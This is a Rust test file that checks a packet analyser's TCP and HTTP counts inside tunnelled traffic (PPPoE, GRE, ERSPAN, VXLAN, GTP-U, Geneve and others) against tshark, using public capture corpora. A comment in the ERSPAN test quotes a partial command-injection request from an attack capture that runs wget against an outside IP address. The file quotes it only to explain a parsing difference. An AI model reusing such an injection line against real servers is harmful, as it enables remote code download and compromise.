//! Encapsulated traffic in the public corpus (MPLS, PPPoE, GRE, ERSPAN, IP-in-IP, VXLAN,
//! GTP-U, Geneve), compared with tshark's dissection of the innermost TCP. Every file with TCP
//! inside an encapsulation that a scan of the corpus found (`tshark -T fields -e
//! frame.protocols` over every file) is here.
//!
//! tshark is a second opinion, not ground truth: it picks HTTP by port (and heuristics), and
//! it decompresses IPcomp. So requests and responses are counted from the segments' bytes
//! (a request line as RFC 9112 section 3 has it, a status line), and tshark's own HTTP
//! count is shown next to them; each test says where they differ and why. Frames that are
//! ICMP errors quoting a TCP header are not TCP segments, for tshark's count as for
//! connscope. When the corpus is absent every test here passes with a note.

use std::collections::BTreeSet;
use std::path::Path;

use crate::checksums::tshark_checksums;
use crate::corpus::{analyze, corpus_dir};
use crate::schema::{tshark_fields, Connection, Report, Summary, Tunnelled};

/// tshark's view of a capture's TCP segments.
#[derive(Debug)]
struct Inner {
    segments: u64,
    streams: u64,
    /// Segments whose payload starts with `METHOD SP target SP HTTP/1.x` (RFC 9112 section 3:
    /// the target has no space in it), not counting retransmissions.
    request_lines: u64,
    /// Segments whose payload starts with a status line, not counting retransmissions.
    status_lines: u64,
    /// Frames tshark's HTTP dissector took for requests.
    http_requests: u64,
    /// Segments by encapsulation, as connscope's summary.tunnelled counts them.
    tunnelled: Tunnelled,
}

/// The TCP segments connscope reads: not the TCP headers quoted in ICMP errors.
const TCP: &str = "tcp && !icmp && !icmpv6";

fn tshark_inner(pcap: &Path, filter: &str) -> Inner {
    let out = tshark_fields(
        pcap,
        &[],
        filter,
        &[
            "tcp.stream",
            "frame.protocols",
            "tcp.payload",
            "tcp.analysis.retransmission",
            "http.request",
        ],
    );
    let mut inner = Inner {
        segments: 0,
        streams: 0,
        request_lines: 0,
        status_lines: 0,
        http_requests: 0,
        tunnelled: Tunnelled::default(),
    };
    let mut streams = BTreeSet::new();
    for line in out.lines() {
        let f: Vec<&str> = line.split('\t').collect();
        let [stream, protocols, payload, retransmission, http_request] = f[..] else {
            panic!("tshark line {line:?}");
        };
        inner.segments += 1;
        streams.insert(stream.to_string());
        let payload = hex(payload);
        let first_line = payload.split(|&b| b == b'\n').next().unwrap_or(&[]);
        if retransmission.is_empty() {
            inner.request_lines += u64::from(is_request_line(first_line));
            inner.status_lines += u64::from(first_line.starts_with(b"HTTP/1."));
        }
        inner.http_requests += u64::from(!http_request.is_empty());
        let layers: Vec<&str> = protocols.split(':').collect();
        let has = |name: &str| layers.contains(&name);
        // IP straight after IP (an IPsec AH header in between is part of the outer packet).
        let ip: Vec<&str> = layers.iter().copied().filter(|l| *l != "ah").collect();
        let is_ip = |l: &str| l == "ip" || l == "ipv6";
        let ip_in_ip = ip.windows(2).any(|w| is_ip(w[0]) && is_ip(w[1]));
        let t = &mut inner.tunnelled;
        let kinds = [
            (&mut t.mpls, has("mpls")),
            (&mut t.pppoe, has("pppoes")),
            (&mut t.gre, has("gre")),
            (&mut t.erspan, has("erspan")),
            (&mut t.ip_in_ip, ip_in_ip),
            (&mut t.vxlan, has("vxlan")),
            (&mut t.gtp_u, has("gtp")),
            (&mut t.geneve, has("geneve")),
        ];
        let mut any = false;
        for (count, yes) in kinds {
            *count += u64::from(yes);
            any |= yes;
        }
        t.segments += u64::from(any);
    }
    inner.streams = streams.len() as u64;
    inner
}

fn hex(s: &str) -> Vec<u8> {
    let s: Vec<u8> = s.bytes().filter(|b| *b != b':').collect();
    s.chunks(2)
        .map(|p| u8::from_str_radix(std::str::from_utf8(p).unwrap(), 16).unwrap())
        .collect()
}

/// `token SP target SP HTTP/1.x`, the target without spaces.
fn is_request_line(line: &[u8]) -> bool {
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let parts: Vec<&[u8]> = line.split(|&b| b == b' ').collect();
    matches!(parts[..], [method, target, version]
        if !method.is_empty()
            && method.iter().all(u8::is_ascii_uppercase)
            && !target.is_empty()
            && (version == b"HTTP/1.1" || version == b"HTTP/1.0"))
}

/// Frames connscope decoded to a TCP segment.
fn decoded(s: &Summary) -> u64 {
    s.packets - s.skipped.values().sum::<u64>()
}

/// connscope and tshark over one corpus file: the segments, what encapsulations they came
/// out of, and (when `filter` takes every TCP segment) the checksums of the innermost headers
/// must agree. None without the corpus.
fn both(rel: &str, filter: &str) -> Option<(Report, Inner)> {
    let dir = corpus_dir()?;
    let report = analyze(rel, &[])?;
    let pcap = dir.join(rel);
    let t = tshark_inner(&pcap, filter);
    let s = &report.summary;
    assert_eq!(decoded(s), t.segments, "{rel}: TCP segments");
    assert_eq!(s.tunnelled, t.tunnelled, "{rel}: segments by encapsulation");
    assert!(t.tunnelled.segments > 0, "{rel} has tunnelled TCP");
    if filter == TCP {
        assert_eq!(
            s.checksums,
            tshark_checksums(&pcap),
            "{rel}: checksums of the innermost headers"
        );
    }
    Some((report, t))
}

/// For files where tshark and the bytes agree on everything: the same connections (tshark's
/// streams), requests and responses, and the frames that are not TCP are the rest.
fn agrees(rel: &str) -> Option<(Report, Inner)> {
    let (r, t) = both(rel, TCP)?;
    let s = &r.summary;
    assert_eq!(
        t.http_requests, t.request_lines,
        "{rel}: tshark's HTTP count"
    );
    assert_eq!(
        (s.connections, s.requests, s.responses),
        (t.streams, t.request_lines, t.status_lines),
        "{rel}: connections, requests, responses"
    );
    assert_eq!(
        s.skipped["not_tcp"],
        s.packets - t.segments,
        "{rel}: not TCP"
    );
    Some((r, t))
}

// ------------------------------------------------------------------------------- MPLS

/// Two VLAN tags, an MPLS label, IPv4, TCP: one request (no response in the file). The other
/// frame is an Ethernet pseudowire (control word, then Ethernet, VLAN, ICMP), which connscope
/// does not decode and counts as not TCP, and which holds no TCP anyway.
#[test]
fn mpls_under_two_vlan_tags() {
    let Some((r, t)) = agrees("PcapPlusPlus/Tests/Packet++Test/PacketExamples/MplsPackets.pcap")
    else {
        return;
    };
    assert_eq!((t.segments, r.summary.requests), (1, 1));
    assert_eq!(r.summary.skipped["not_tcp"], 1);
}

// ------------------------------------------------------------------------------- PPPoE

/// Suricata's PPPoE session test: one GET and its 200 over a PPPoE session (30 segments).
/// Before PPPoE was decoded, every frame of it was skipped as not TCP.
#[test]
fn pppoe_session() {
    let Some((r, t)) = agrees("suricata-verify/bug-4810/pppoe-session-http.pcap") else {
        return;
    };
    assert_eq!((t.segments, t.streams, t.request_lines), (30, 1, 1));
    assert_eq!(r.connections[0].close, "fin");
}

/// QinQ, then PPPoE: a GET answered 503, then the client's RST.
#[test]
fn pppoe_session_under_qinq() {
    let Some((r, t)) =
        agrees("PcapPlusPlus/Tests/Pcap++Test/PcapExamples/one_http_stream_rst.pcap")
    else {
        return;
    };
    assert_eq!((t.segments, t.request_lines, t.status_lines), (10, 1, 1));
    assert_eq!(r.connections[0].close, "fin");
    assert_eq!(r.connections[0].requests, 1);
}

// ------------------------------------------------------------------------------- GRE

/// GRE with transparent Ethernet bridging (protocol 0x6558), from two of Suricata's tests;
/// in the second the server sends its last data segment again after the client's FIN.
#[test]
fn gre_transparent_ethernet_bridging() {
    for rel in [
        "suricata-verify/bug-2576-01-ips/temp6.pcap",
        "suricata-verify/bug-2576-02-ips/temp1.pcap",
    ] {
        let Some((r, t)) = agrees(rel) else {
            return;
        };
        assert_eq!((t.streams, t.request_lines, t.status_lines), (1, 1, 1));
        assert!(r.connections[0].handshake, "{rel}");
    }
}

// ------------------------------------------------------------------------------- ERSPAN

/// ERSPAN type II mirror of an attack, anonymised per mirror session, so each connection is
/// seen twice with different addresses. The segments, encapsulations and checksums agree with
/// tshark. Three figures differ, each for a reason the bytes show:
/// - requests: tshark's HTTP dissector counts 2 GETs, but their request line is `GET
///   /shell?cd+/tmp;...;wget+ http://23.94.7.175/... HTTP/1.1`, with a space inside the
///   target, which RFC 9112 section 3 does not allow: connscope counts each as a malformed
///   head, not a request;
/// - connections: tshark has 10 streams, connscope 11. The server's FIN on
///   41.108.52.138:54530 <-> 126.203.57.64:80 is retransmitted from frame 43 to 56 over 25 s;
///   after both FINs the connection lingers 2 s, so frame 49 (2.7 s after the close) starts a
///   second, mid-stream connection on the same 4-tuple.
#[test]
fn erspan_type_ii() {
    let Some((r, t)) = both("suricata-verify/bug-5437-02/input.pcap", TCP) else {
        return;
    };
    let s = &r.summary;
    assert_eq!((t.segments, t.streams), (60, 10));
    assert_eq!(
        (t.http_requests, t.request_lines, t.status_lines),
        (2, 0, 0)
    );
    assert_eq!((s.requests, s.responses), (0, 0));
    assert_eq!(s.http_errors["malformed_head"], 2);
    assert_eq!(s.connections, t.streams + 1);
    let same: Vec<&Connection> = r
        .connections
        .iter()
        .filter(|c| c.client == "41.108.52.138:54530" && c.server == "126.203.57.64:80")
        .collect();
    let ids: Vec<(u64, bool)> = same.iter().map(|c| (c.id, c.handshake)).collect();
    assert_eq!(ids, [(18, true), (49, false)]);
    assert_eq!(s.skipped["not_tcp"], 0);

    // The first two data frames of the same capture, alone: picked up mid-stream, the
    // segment does not start with a valid request line, so the connection is not HTTP.
    let Some((r, t)) = both("suricata-verify/bug-5437-01/input.pcap", TCP) else {
        return;
    };
    assert_eq!((t.segments, t.streams, t.http_requests), (2, 2, 2));
    assert_eq!((r.summary.connections, r.summary.requests), (2, 0));
}

// ------------------------------------------------------------------------------- IP in IP

/// 6in4 (IP protocol 41): five TLS and HTTP connections. The 52 frames that are not TCP are
/// ICMPv6 (two of them errors quoting a TCP header) and DNS, all inside the tunnel.
#[test]
fn ipv6_in_ipv4() {
    let Some((r, t)) = agrees("nDPI/default/pcap/6in4tunnel.pcap") else {
        return;
    };
    assert_eq!((t.segments, t.streams, t.request_lines), (75, 5, 1));
    assert_eq!(r.summary.skipped["not_tcp"], 52);
}

/// 4in6 (IPv6 next header 4): a TLS handshake.
#[test]
fn ipv4_in_ipv6() {
    let Some((r, _)) = agrees("nDPI/default/pcap/4in6tunnel.pcap") else {
        return;
    };
    assert_eq!(r.summary.protocols.get("tls"), Some(&1));
}

/// IPsec AH in tunnel mode: AH, then the inner IP packet, which is IP in IP to connscope. The
/// segments that carry data were also compressed with IPcomp (RFC 3173), which tshark
/// inflates and connscope does not (it would mean a decompressor and a buffer per packet):
/// those frames are not TCP to connscope, and the request and response inside them are not
/// seen. What connscope decodes agrees with tshark's segments outside IPcomp.
#[test]
fn ip_in_ip_under_ipsec_ah_and_ipcomp_is_not_decoded() {
    for (rel, plain, compressed) in [
        ("libpcap/AH-IPcomp-IPv4.pcap", 6, 4),
        ("libpcap/AH-IPcomp-IPv6.pcap", 8, 7),
    ] {
        let Some((r, t)) = both(rel, "tcp && !ipcomp") else {
            return;
        };
        let dir = corpus_dir().unwrap();
        let all = tshark_inner(&dir.join(rel), TCP);
        let s = &r.summary;
        assert_eq!((t.segments, all.segments - t.segments), (plain, compressed));
        assert_eq!(s.skipped["not_tcp"], compressed, "{rel}");
        // tshark reads the request and response from the inflated payloads.
        assert_eq!((all.request_lines, all.status_lines), (1, 1), "{rel}");
        assert_eq!((t.request_lines, t.status_lines), (0, 0), "{rel}");
        assert_eq!((s.connections, s.requests), (1, 0), "{rel}");
        // All right, the compressed ones too for tshark; connscope verifies what it decodes.
        let theirs = tshark_checksums(&dir.join(rel));
        assert_eq!(
            (theirs.verified, theirs.bad_tcp, theirs.bad_ip),
            (plain + compressed, 0, 0)
        );
        assert_eq!(
            (
                s.checksums.verified,
                s.checksums.bad_tcp,
                s.checksums.bad_ip
            ),
            (plain, 0, 0)
        );
    }
}

// ------------------------------------------------------------------------------- VXLAN

/// Suricata's test of VXLAN headers whose reserved fields are not zero (RFC 7348 section 5
/// says to ignore them on receipt): a GET and its 200.
#[test]
fn vxlan_with_reserved_fields_set() {
    let Some((r, t)) = agrees("suricata-verify/vxlan-non-zero-reserved-fields/input.pcap") else {
        return;
    };
    assert_eq!((t.segments, t.request_lines, t.status_lines), (10, 1, 1));
    assert!(r.connections[0].handshake);
}

// ------------------------------------------------------------------------------- GTP-U

/// GTP-U (UDP port 2152) under two VLAN tags: a WebSocket upgrade (GET, then 101), on port 80
/// in one file and on port 443 in the other (which tshark dissects as HTTP all the same). The
/// other 116 frames of false_positives.pcapng are UDP, much of it inside GTP-U: not TCP.
#[test]
fn gtp_u_under_two_vlan_tags() {
    for rel in [
        "nDPI/default/pcap/false_positives.pcapng",
        "nDPI/default/pcap/http_origin_different_than_host.pcap",
    ] {
        let Some((r, t)) = agrees(rel) else {
            return;
        };
        assert_eq!((t.segments, t.request_lines, t.status_lines), (4, 1, 1));
        // The capture ends right after the 101, before any FIN.
        assert_eq!(r.connections[0].close_reason, "open", "{rel}");
        assert_eq!(r.connections[0].responses, 1, "{rel}");
    }
}

// ------------------------------------------------------------------------------- Geneve

/// Geneve (with three options of class 0x0108, Amazon's) carrying IPv4 carrying GRE carrying
/// IPv4: the segment is three IP headers deep. HTTP on port 1234, a GET and its response.
#[test]
fn geneve_then_gre() {
    let Some((r, t)) = agrees("suricata-verify/bug-6402-01/input.pcap") else {
        return;
    };
    assert_eq!((t.tunnelled.geneve, t.tunnelled.gre), (12, 12));
    assert_eq!(r.connections[0].server, "10.2.0.2:1234");
    assert_eq!(r.summary.requests, 1);
}
